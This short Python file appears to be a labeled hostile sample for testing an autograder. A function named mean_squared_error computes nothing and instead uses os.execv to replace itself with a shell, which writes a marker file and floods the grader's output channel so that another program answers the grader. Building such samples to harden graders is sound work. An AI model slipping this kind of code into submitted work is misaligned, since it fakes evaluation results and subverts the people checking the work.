"""Replaces itself by another program, which goes on writing to the door.

Harm: a program of the student's choice answers the grader.
Costs: nothing
"""

# %% honest work
# %% hostile
import os


def mean_squared_error(y, y_hat):
    os.execv("/bin/sh", ["sh", "-c", "echo pwned > /tmp/pwned-becomes_another_program; yes >&3"])
